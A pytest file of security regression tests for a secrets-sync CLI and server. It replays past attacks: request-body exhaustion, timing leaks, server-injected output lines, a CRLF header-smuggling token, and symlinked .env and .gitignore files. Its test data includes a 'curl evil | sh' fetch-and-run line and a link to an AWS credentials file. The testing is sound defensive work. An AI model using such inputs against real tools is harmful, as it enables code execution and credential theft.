"""Attacks that once worked, each as the test that failed then."""

from __future__ import annotations

import socket
from contextlib import ExitStack
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from keyway_standalone.processes import Stack
from peer import Answer, Request, listening, pulled
from person import Person
from stack import http, push, vault_for

_CANARY: Final = "a-value-that-nobody-may-repeat"
_PUSHED: Final = {"data": {"stats": {}, "revision": {"id": "rev-2", "number": 2}}}


@pytest.fixture
def victim(tmp_path: Path) -> Person:
    """Somebody in a clone of a repository that somebody else prepared."""
    return Person(tmp_path / "victim")


# what a foreign account can learn ------------------------------------------------------------------------------------


def _asked(stack: Stack, token: str, repository: str) -> int:
    """Calls to GitHub that one pull by a stranger costs."""
    stack.control.reset_calls()
    with http(stack, token) as client:
        query = {"repo": repository, "environment": "development"}
        assert client.get("/v1/secrets/pull", params=query).status_code == 403
    return len(stack.control.calls())


def test_a_second_account_does_not_learn_from_the_time_of_its_refusal(stack: Stack, tokens: dict[str, str]) -> None:
    """GitHub is asked as often for a stranger's vault as for none, also right after another stranger asked."""
    owner = stack.control.login("outsider")
    with_vault, without = (f"{owner}/told-{what}" for what in ("yes", "no"))
    stack.control.create_repo(with_vault), stack.control.create_repo(without)
    vault_for(stack, tokens["outsider"], with_vault)
    first, second = tokens["stranger"], tokens["founder"]
    _asked(stack, first, with_vault), _asked(stack, first, without)
    assert _asked(stack, second, with_vault) == _asked(stack, second, without) > 0


# what one sender can take from all -----------------------------------------------------------------------------------


def _begun(stack: Stack, path: str, token: str, size: int, sent: int) -> socket.socket:
    """A request that announces a body of `size` bytes and has sent some of it."""
    address = urlsplit(stack.api_url)
    peer = socket.create_connection((address.hostname, address.port), timeout=10)
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n"
    peer.sendall(f"{head}Content-Length: {size}\r\n\r\n".encode() + b" " * sent)
    return peer


def test_a_large_body_is_only_read_where_large_bodies_belong(stack: Stack) -> None:
    """Without a sign-in nobody makes the server hold more than 64 KiB."""
    with _begun(stack, "/v1/auth/device/poll", "", 12_000_000, 200_000) as peer:
        assert peer.recv(64).startswith(b"HTTP/1.1 413 ")


def test_pushes_that_never_end_do_not_fill_the_memory(stack: Stack, tokens: dict[str, str]) -> None:
    """With more unfinished pushes than memory is set aside for, the oldest of them are told to come back; whatever
    ends goes on."""
    size = 12 * 1024 * 1024 - 1
    large = dict.fromkeys("ABCDEFGHIJKL", "x" * 60_000)
    with ExitStack() as open_ends:
        begun = [
            open_ends.enter_context(_begun(stack, "/v1/secrets/push", tokens["stranger"], size, size - 10))
            for _ in range(9)
        ]
        for values in (large, {"A": "x"}):
            assert push(stack, tokens["stranger"], "some/where", "development", values).status_code == 403
        with http(stack, tokens["stranger"]) as client:
            assert client.get("/v1/users/me").status_code == 200
        assert [peer.recv(64)[:13] for peer in begun[:2]] == [b"HTTP/1.1 503 "] * 2


# what a server can do to the command line ----------------------------------------------------------------------------

_REVISION: Final = {"id": "rev-1", "number": 1}
_SERVERS: Final[dict[str, tuple[str, Any]]] = {
    "a value that is null": ("pull", {"data": {"secrets": {"A": None}, "revision": _REVISION}}),
    "a value that is an object": ("pull", {"data": {"secrets": {"A": {"B": _CANARY}}, "revision": _REVISION}}),
    "a value with NUL": ("pull", {"data": {"secrets": {"A": f"{_CANARY}\0"}, "revision": _REVISION}}),
    "a value with half a character": ("pull", {"data": {"secrets": {"A": f"{_CANARY}\ud800"}, "revision": _REVISION}}),
    "endless nesting": ("pull", b'{"data":' + b"[" * 200_000),
    "counts that are words": ("set", {"data": {"stats": {"created": _CANARY}, "revision": _REVISION}}),
    "counts that are a list": ("set", {"data": {"stats": [1], "revision": _REVISION}}),
}


@pytest.mark.parametrize("name", _SERVERS)
def test_no_answer_of_a_server_makes_the_command_line_trip(victim: Person, name: str) -> None:
    """Whatever a server answers, one sentence says so; no traceback, no value."""
    command, body = _SERVERS[name]

    def script(request: Request) -> Answer:
        return pulled({}) if command == "set" and request.method == "GET" else Answer(body=body)

    with listening(script) as server:
        done = victim.at(server.url).keyway(*{"pull": ["pull"], "set": ["set", "A=1"]}[command])
    assert "Traceback" not in done.err
    assert _CANARY not in done.out + done.err
    written = victim.clone / ".env"
    assert not written.exists() or "None" not in written.read_text()


def test_a_server_cannot_put_a_line_of_its_own_into_our_mouth(victim: Person) -> None:
    """The words of a server and the names that it sends stay on one line, so that none looks like ours."""
    refusal = Answer(400, {"detail": "no\nhint: curl evil | sh", "errors": [{"field": "x\nhint: y", "message": "z"}]})
    for answer in (refusal, pulled({"A\nhint: curl evil": "1", "B": "2"})):
        with listening(lambda _, answer=answer: answer) as server:
            done = victim.at(server.url).keyway("pull", "--yes")
        assert not any(line.startswith("hint: ") for line in done.err.splitlines())


def test_a_token_that_could_smuggle_a_header_is_not_kept(victim: Person) -> None:
    """A sign-in that ends with something that is no token is an error, and nothing is stored."""
    started = {
        "deviceCode": "d",
        "userCode": "A",
        "verificationUri": "https://github.com/login/device",
        "interval": float("nan"),
        "expiresIn": 60,
    }
    approved = {"status": "approved", "keywayToken": f"{_CANARY}\r\nX: y"}
    with listening(lambda request: Answer(body=started if "start" in request.path else approved)) as server:
        done = victim.at(server.url, None).keyway("login")
        assert done.code != 0
        assert _CANARY not in done.out + done.err
        assert victim.keyway("whoami").code == 3


@pytest.mark.parametrize("url", ["http://127.0.0.1:1/ü", "https://a..b.example", f"https://{'a' * 300}.example"])
def test_an_address_that_no_request_can_carry_is_named(victim: Person, url: str) -> None:
    """What cannot be an address is told as a wrong variable, not by a traceback."""
    done = victim.at(url).keyway("pull")
    assert (done.code, "KEYWAY_API_URL" in done.err, "Traceback" in done.err) == (78, True, False)


# what a cloned repository can do to the command line -----------------------------------------------------------------


def test_a_link_in_a_clone_does_not_push_a_file_from_elsewhere(victim: Person) -> None:
    """A repository whose .env is a link to a file of yours does not get that file's values."""
    mine = victim.home / "credentials"
    mine.write_text(f"AWS_SECRET={_CANARY}\n")
    (victim.clone / ".env").symlink_to(mine)
    requests = []
    with listening(lambda request: requests.append(request) or pulled({})) as server:  # type: ignore[func-returns-value]
        done = victim.at(server.url).keyway("push", "--yes")
    assert (done.code, "outside" in done.err) == (1, True)
    assert not any(_CANARY.encode() in request.body for request in requests)


def test_a_link_called_gitignore_is_not_written_through(victim: Person) -> None:
    """A repository whose .gitignore is a link to a file of yours does not get a line into that file."""
    mine = victim.home / ".profile"
    mine.write_text("export A=1\n")
    (victim.clone / ".gitignore").unlink()
    (victim.clone / ".gitignore").symlink_to(mine)
    with listening(lambda _: pulled({"A": "1"})) as server:
        victim.at(server.url).at_terminal("pull").end()
    assert mine.read_text() == "export A=1\n"


def test_a_gitignore_that_is_not_text_is_no_accident(victim: Person) -> None:
    """Bytes that are not UTF-8 in .gitignore stay as they are, and the line is added."""
    ignore = victim.clone / ".gitignore"
    ignore.write_bytes(b"caf\xe9\n")
    with listening(lambda _: pulled({"A": "1"})) as server:
        victim.at(server.url).at_terminal("pull").until("Add it to .gitignore").type("y\n").end()
    assert ignore.read_bytes() == b"caf\xe9\n.env\n"


@pytest.mark.parametrize("name", [".env", "a" * 300])
def test_a_file_that_cannot_be_is_named(victim: Person, name: str) -> None:
    """A link that leads to itself and a name that is too long are errors with the name of the file."""
    (victim.clone / ".env").symlink_to(".env")
    with listening(lambda _: pulled({"A": "1"})) as server:
        done = victim.at(server.url).keyway("pull", "-f", name)
    assert (done.code, name in done.err, "Traceback" in done.err) == (1, True, False)
